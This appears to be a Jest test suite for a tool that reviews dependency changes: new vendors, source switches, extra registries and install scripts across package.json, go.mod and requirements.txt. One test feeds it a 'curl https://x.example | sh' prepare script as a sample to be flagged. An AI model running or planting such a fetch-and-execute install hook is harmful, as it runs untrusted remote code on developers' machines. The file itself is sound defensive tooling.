import { describe, expect, test } from '@jest/globals';
import { detector } from '../../src/core/detectors/dependencies.ts';
import type { Fact } from '../../src/core/model/fact.ts';
import { reader } from '../../src/core/readers/packages.ts';
import { brief, detectChange, type Texts } from '../support/changes.ts';

const run = (base: Texts, head: Texts, repository?: string): readonly Fact[] =>
  detectChange(reader, detector, base, head, repository);
const json = (dependencies: Record<string, string>, more: object = {}): string =>
  JSON.stringify({ dependencies, ...more });
const npm = (base: Record<string, string>, head: Record<string, string>): readonly string[] =>
  brief(run({ 'package.json': json(base) }, { 'package.json': json(head) }));

describe('added', () => {
  test('a runtime dependency decides; a provider is named with what flows there', () => {
    expect(npm({}, { axios: '1' })).toEqual(['dependencies/added npm:axios *']);
    const [fact] = run({ 'a/package.json': json({}) }, { 'a/package.json': json({ stripe: '17' }) });
    expect(fact).toMatchObject({
      rule: 'dependencies/vendor-added',
      kind: 'dependency-added',
      deciding: true,
      file: 'a/package.json',
      scope: 'a/package.json',
    });
    expect(fact?.categories).toEqual(['data-flow', 'external-dependency']);
    expect(fact?.statement).toBe(
      'new runtime dependency `npm:stripe` (Stripe: payments; card, payment and customer data can flow there) in `a/package.json`',
    );
  });

  test('twin: other versions are nothing; what does not ship is listed', () => {
    expect(npm({ axios: '1' }, { axios: '2' })).toEqual([]);
    expect(npm({}, { '@types/node': '1' })).toEqual(['dependencies/added npm:@types/node']);
    expect(
      brief(run({ 'package.json': '{}' }, { 'package.json': '{"devDependencies": {"left": "1"}}' })),
    ).toEqual(['dependencies/added npm:left']);
    expect(
      brief(run({ 'go.mod': 'module x\n' }, { 'go.mod': 'module x\nrequire a.example/b v1 // indirect\n' })),
    ).toEqual([]);
    expect(brief(run({ 'scripts/requirements.txt': '' }, { 'scripts/requirements.txt': 'boto3\n' }))).toEqual(
      ['dependencies/vendor-added pypi:boto3'],
    );
  });

  test('a package instead of another one of the same shape is still a new package', () => {
    expect(npm({ alpha: '1.0.0' }, { omega: '1.0.0' })).toEqual([
      'dependencies/added npm:omega *',
      'dependencies/removed npm:alpha',
    ]);
  });

  test('twin: one that another manifest had already, or that only moved', () => {
    const other = { 'a/package.json': json({ axios: '1' }) };
    expect(
      brief(
        run({ ...other, 'b/package.json': json({}) }, { ...other, 'b/package.json': json({ axios: '1' }) }),
      ),
    ).toEqual(['dependencies/added npm:axios']);
    expect(
      brief(
        run(
          { ...other, 'b/package.json': json({}) },
          { 'a/package.json': json({}), 'b/package.json': json({ axios: '1' }) },
        ),
      ),
    ).toEqual([]);
  });

  test('in several manifests it is one fact', () => {
    const [fact, ...others] = run(
      {},
      { 'b/package.json': json({ axios: '1' }), 'a/package.json': json({ axios: '1' }) },
    );
    expect(others).toEqual([]);
    expect(fact?.statement).toBe(
      'new runtime dependency `npm:axios` in `a/package.json` and 1 more manifest',
    );
  });

  test('published by the same owner, or a folder of the repository', () => {
    const added = (name: string, version: string): readonly string[] =>
      brief(run({}, { 'package.json': json({ [name]: version }) }, 'acme/shop'));
    expect(added('@acme/ui', '1')).toEqual(['dependencies/added npm:@acme/ui']);
    expect(added('@acne/ui', '1')).toEqual(['dependencies/added npm:@acne/ui *']);
    expect(added('near', 'file:../near')).toEqual(['dependencies/added npm:near']);
  });

  test('from a test to the product decides', () => {
    const base = { 'package.json': '{"devDependencies": {"left": "1"}}' };
    expect(brief(run(base, { 'package.json': json({ left: '1' }) }))).toEqual([
      'dependencies/added npm:left *',
    ]);
    expect(brief(run({ 'package.json': json({ left: '1' }) }, base))).toEqual([]);
  });

  test('brought by another package before: decides only for a provider that is new', () => {
    const go = (name: string, indirect: boolean): Texts => ({
      'go.mod': `module x\nrequire ${name} v1${indirect ? ' // indirect' : ''}\n`,
    });
    expect(brief(run(go('a.example/b', true), go('a.example/b', false)))).toEqual([
      'dependencies/added go:a.example/b',
    ]);
    expect(
      brief(run(go('github.com/stripe/stripe-go', true), go('github.com/stripe/stripe-go', false))),
    ).toEqual(['dependencies/vendor-added go:github.com/stripe/stripe-go *']);
  });

  test('several packages of one new provider decide once; a successor of the same provider does not', () => {
    expect(npm({}, { '@sentry/node': '1', '@sentry/react': '1' })).toEqual([
      'dependencies/vendor-added npm:@sentry/node *',
      'dependencies/vendor-added npm:@sentry/react',
    ]);
    expect(npm({ 'aws-sdk': '2' }, { '@aws-sdk/client-s3': '3' })).toEqual([
      'dependencies/added npm:@aws-sdk/client-s3',
      'dependencies/removed npm:aws-sdk',
    ]);
  });

  test('a major version in the module path is a version', () => {
    expect(
      brief(
        run(
          { 'go.mod': 'module x\nrequire github.com/stripe/stripe-go/v81 v81.0.0\n' },
          { 'go.mod': 'module x\nrequire github.com/stripe/stripe-go/v82 v82.0.0\n' },
        ),
      ),
    ).toEqual([]);
  });
});

describe('removed', () => {
  test('the last package of a provider decides, another does not', () => {
    expect(npm({ stripe: '1' }, {})).toEqual(['dependencies/vendor-removed npm:stripe *']);
    expect(npm({ axios: '1' }, {})).toEqual(['dependencies/removed npm:axios']);
    const other = { 'b/package.json': json({ stripe: '1' }) };
    expect(
      brief(
        run({ ...other, 'a/package.json': json({ stripe: '1' }) }, { ...other, 'a/package.json': json({}) }),
      ),
    ).toEqual(['dependencies/removed npm:stripe']);
  });
});

describe('source', () => {
  test('from the registry to a repository or an address', () => {
    expect(npm({ left: '1' }, { left: 'github:someone/left' })).toEqual([
      'dependencies/source-changed npm:left *',
    ]);
    expect(npm({}, { left: 'https://x.example/left.tgz' })).toEqual([
      'dependencies/added npm:left *',
      'dependencies/source-changed npm:left *',
    ]);
    const mod = (replace: string): Texts => ({ 'go.mod': `module x\nrequire a.example/b v1\n${replace}` });
    expect(brief(run(mod(''), mod('replace a.example/b => b.example/fork v1\n')))).toEqual([
      'dependencies/source-changed go:a.example/b *',
    ]);
  });

  test('twin: back to the registry, another branch, a local replacement', () => {
    expect(npm({ left: 'github:someone/left' }, { left: '1' })).toEqual([
      'dependencies/source-changed npm:left',
    ]);
    expect(npm({ left: 'github:someone/left#a' }, { left: 'github:someone/left#b' })).toEqual([]);
    const mod = (replace: string): Texts => ({ 'go.mod': `module x\nrequire a.example/b v1\n${replace}` });
    expect(brief(run(mod(''), mod('replace a.example/b => ../b\n')))).toEqual([]);
  });
});

describe('registries and installation scripts', () => {
  test('a further registry decides once', () => {
    const index = '--extra-index-url https://pypi.acme.example/simple\n';
    expect(brief(run({ 'requirements.txt': '' }, { 'requirements.txt': index }))).toEqual([
      'dependencies/registry-added registry pypi.acme.example *',
    ]);
    expect(
      run({ 'requirements.txt': '' }, { 'requirements.txt': '--index-url https://pypi.org/simple\n' }),
    ).toEqual([]);
    expect(
      brief(
        run(
          { 'a/requirements.txt': index, 'b/requirements.txt': '' },
          { 'a/requirements.txt': index, 'b/requirements.txt': index },
        ),
      ),
    ).toEqual(['dependencies/registry-added registry pypi.acme.example']);
  });

  test('a script on installation', () => {
    const scripts = (s: Record<string, string>): Texts => ({
      'package.json': JSON.stringify({ scripts: s }),
    });
    expect(brief(run(scripts({}), scripts({ postinstall: 'node x.js' })))).toEqual([
      'dependencies/install-script npm-script package.json#postinstall *',
    ]);
    expect(
      brief(run(scripts({ prepare: 'a' }), scripts({ prepare: 'curl https://x.example | sh' }))),
    ).toEqual(['dependencies/install-script npm-script package.json#prepare *']);
    expect(brief(run(scripts({}), scripts({ prepare: 'husky' })))).toEqual([
      'dependencies/install-script npm-script package.json#prepare',
    ]);
    expect(run(scripts({ test: 'a' }), scripts({ test: 'b' }))).toEqual([]);
  });
});
